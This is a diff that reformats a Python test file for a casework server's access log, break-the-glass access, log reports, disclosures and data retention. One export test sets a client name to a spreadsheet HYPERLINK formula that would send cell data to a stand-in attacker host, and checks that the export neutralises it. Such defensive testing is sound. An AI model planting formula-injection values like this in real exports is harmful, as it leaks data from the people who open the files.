@@ -29,8 +29,9 @@ PROJECT = Path(__file__).resolve().parent.parent
 
 
 def _cli(*args: str) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", "server.cli", *args], cwd=PROJECT, capture_output=True, text=True,
-                          timeout=120)
+    return subprocess.run(
+        [sys.executable, "-m", "server.cli", *args], cwd=PROJECT, capture_output=True, text=True, timeout=120
+    )
 
 
 async def _tamper(sql: str) -> None:
@@ -55,6 +56,7 @@ async def _three_reads(client, world) -> list[int]:
 
 # The use log ----------------------------------------------------------------------------------
 
+
 async def test_every_read_is_a_chained_row_with_who_why_and_which_request(client, world):
     client_id = await make_client(world.team_a, "Lintu")
     await login(client, "alice@example.org")
@@ -65,8 +67,14 @@ async def test_every_read_is_a_chained_row_with_who_why_and_which_request(client
     rows = await AccessLog.select().where(AccessLog.client == client_id).order_by(AccessLog.id)
     assert [row["what"] for row in rows] == ["client_page", "api_client", "caseload"]
     first = rows[0]
-    assert (first["user"], first["role"], first["team"], first["action"], first["basis"], first["outcome"]) == \
-        (world.alice, "professional", world.team_a, "read", "team", "ok")
+    assert (first["user"], first["role"], first["team"], first["action"], first["basis"], first["outcome"]) == (
+        world.alice,
+        "professional",
+        world.team_a,
+        "read",
+        "team",
+        "ok",
+    )
     assert first["request_id"] == page.headers["x-request-id"] and first["session"] is not None
     assert [row["prev_hash"] for row in rows[1:]] == [row["hash"] for row in rows[:-1]]
     verdict = await chain.verify(AccessLog)
@@ -109,6 +117,7 @@ async def test_a_removed_row_breaks_the_chain_at_the_next(client, world):
 
 # Break-the-glass ------------------------------------------------------------------------------
 
+
 async def test_break_the_glass_opens_another_teams_client_read_only_with_a_logged_reason(client, world):
     client_id = await make_client(world.team_a, "Makkara-Matti", phone="040 123", birth_year=1978)
     await login(client, "dave@example.org")
@@ -121,8 +130,12 @@ async def test_break_the_glass_opens_another_teams_client_read_only_with_a_logge
     assert refused.status_code == 422 and refused.json()["errors"][0]["field"] == "reason"
     assert await GlassAccess.count() == 0
 
-    opened = await api(client, "POST", f"/api/v1/clients/{client_id}/break-glass",
-                       {"reason": "Met at the night shelter, needs his appointment time"})
+    opened = await api(
+        client,
+        "POST",
+        f"/api/v1/clients/{client_id}/break-glass",
+        {"reason": "Met at the night shelter, needs his appointment time"},
+    )
     assert opened.status_code == 201
     assert (await api(client, "GET", f"/api/v1/clients/{client_id}")).json()["phone"] == "040 123"
     page = await client.get(f"/clients/{client_id}")
@@ -132,8 +145,11 @@ async def test_break_the_glass_opens_another_teams_client_read_only_with_a_logge
     assert changed.status_code == 404
     assert (await Client.select(Client.phone).where(Client.id == client_id).first())["phone"] == "040 123"
 
-    uses = await AccessLog.select(AccessLog.what, AccessLog.basis, AccessLog.reason).where(
-        (AccessLog.user == world.dave) & (AccessLog.outcome == "ok")).order_by(AccessLog.id)
+    uses = (
+        await AccessLog.select(AccessLog.what, AccessLog.basis, AccessLog.reason)
+        .where((AccessLog.user == world.dave) & (AccessLog.outcome == "ok"))
+        .order_by(AccessLog.id)
+    )
     assert [u["basis"] for u in uses] == ["org_search", "break_glass", "break_glass", "break_glass"]
     assert all(u["reason"].startswith("Met at the night shelter") for u in uses[1:])
 
@@ -143,7 +159,8 @@ async def test_an_opening_ends_after_twelve_hours(client, world):
     await login(client, "dave@example.org")
     await api(client, "POST", f"/api/v1/clients/{client_id}/break-glass", {"reason": "Night shift"})
     await GlassAccess.update({GlassAccess.expires_at: utcnow() - timedelta(seconds=1)}).where(
-        GlassAccess.client == client_id)
+        GlassAccess.client == client_id
+    )
     assert (await api(client, "GET", f"/api/v1/clients/{client_id}")).status_code == 404
 
 
@@ -164,6 +181,7 @@ async def test_both_teams_leads_see_the_opening_on_the_dashboard(client, world):
 
 # The client's log report (§11) and disclosures ------------------------------------------------
 
+
 async def test_the_log_report_lists_uses_and_disclosures_and_is_itself_logged(client, world):
     await load_national_services()
     client_id = await make_client(world.team_a, "Lintu")
@@ -176,14 +194,24 @@ async def test_the_log_report_lists_uses_and_disclosures_and_is_itself_logged(cl
     client.cookies.clear()
     await login(client, "lena@example.org")
     report = (await api(client, "GET", f"/api/v1/clients/{client_id}/log-report")).json()
-    assert report["from"] == (date.fromisoformat(report["to"]) - timedelta(days=365 * 2 + 1)).isoformat() \
+    assert (
+        report["from"] == (date.fromisoformat(report["to"]) - timedelta(days=365 * 2 + 1)).isoformat()
         or report["from"] < report["to"]
+    )
     assert {"at", "user", "role", "action", "basis"} <= set(report["uses"][0])
-    assert ("Alice", "professional", "read", "team") in {(u["user"], u["role"], u["action"], u["basis"])
-                                                         for u in report["uses"]}
-    assert report["disclosures"] == [{
-        "at": report["disclosures"][0]["at"], "user": "Alice", "role": "professional",
-        "recipient": service["name_fi"], "basis": "client_agreed", "categories": ["identity", "referral"]}]
+    assert ("Alice", "professional", "read", "team") in {
+        (u["user"], u["role"], u["action"], u["basis"]) for u in report["uses"]
+    }
+    assert report["disclosures"] == [
+        {
+            "at": report["disclosures"][0]["at"],
+            "user": "Alice",
+            "role": "professional",
+            "recipient": service["name_fi"],
+            "basis": "client_agreed",
+            "categories": ["identity", "referral"],
+        }
+    ]
     logged = await AccessLog.select(AccessLog.what).where(AccessLog.user == world.lena)
     assert {"what": "api_log_report"} in logged
 
@@ -203,8 +231,11 @@ async def test_a_calendar_file_is_a_disclosure(client, world):
     from server.casework.tables import Appointment
 
     client_id = await make_client(world.team_a, "Lintu")
-    appointment = (await Appointment.insert(Appointment(team=world.team_a, client=client_id,
-                                                        starts_at=utcnow() + timedelta(days=1))))[0]["id"]
+    appointment = (
+        await Appointment.insert(
+            Appointment(team=world.team_a, client=client_id, starts_at=utcnow() + timedelta(days=1))
+        )
+    )[0]["id"]
     await login(client, "alice@example.org")
     assert (await client.get(f"/appointments/{appointment}.ics")).status_code == 200
     rows = await DisclosureLog.select(DisclosureLog.client, DisclosureLog.recipient, DisclosureLog.user)
@@ -213,6 +244,7 @@ async def test_a_calendar_file_is_a_disclosure(client, world):
 
 
 # The caseload export --------------------------------------------------------------------------
+
 
 async def test_the_caseload_export_neutralises_formulas_and_is_logged_as_a_disclosure(client, world):
     ours = await make_client(world.team_a, '=HYPERLINK("https://evil.example/?"&A1,"x")')
@@ -235,18 +267,42 @@ async def test_the_caseload_export_neutralises_formulas_and_is_logged_as_a_discl
 
 # Retention ------------------------------------------------------------------------------------
 
+
 async def test_purge_empties_long_closed_clients_and_old_log_rows_and_the_chain_still_holds(client, world):
     eleven_years = date.today() - timedelta(days=365 * 11)
-    gone = await make_client(world.team_a, "Vanha", status="closed", status_changed_on=eleven_years,
-                             phone="040 1")
+    gone = await make_client(world.team_a, "Vanha", status="closed", status_changed_on=eleven_years, phone="040 1")
     kept = await make_client(world.team_a, "Uusi", status="closed", status_changed_on=date.today())
-    await Visit.insert(Visit(uuid="7d1f3f4e-9b0a-4c55-8a51-0d2c0e6e8f01", team=world.team_a, client=gone,
-                             occurred_at=utcnow(), notes="secret", created_by=world.alice))
+    await Visit.insert(
+        Visit(
+            uuid="7d1f3f4e-9b0a-4c55-8a51-0d2c0e6e8f01",
+            team=world.team_a,
+            client=gone,
+            occurred_at=utcnow(),
+            notes="secret",
+            created_by=world.alice,
+        )
+    )
     old = utcnow() - timedelta(days=365 * 13)
-    await chain.append(AccessLog, [
-        {"at": old, "user": world.alice, "role": "professional", "team": world.team_a, "client": kept,
-         "action": "read", "what": "client_page", "object": "client", "basis": "team", "reason": "",
-         "request_id": "", "session": None, "outcome": "ok"}])
+    await chain.append(
+        AccessLog,
+        [
+            {
+                "at": old,
+                "user": world.alice,
+                "role": "professional",
+                "team": world.team_a,
+                "client": kept,
+                "action": "read",
+                "what": "client_page",
+                "object": "client",
+                "basis": "team",
+                "reason": "",
+                "request_id": "",
+                "session": None,
+                "outcome": "ok",
+            }
+        ],
+    )
     await login(client, "alice@example.org")
     await client.get(f"/clients/{kept}")
 
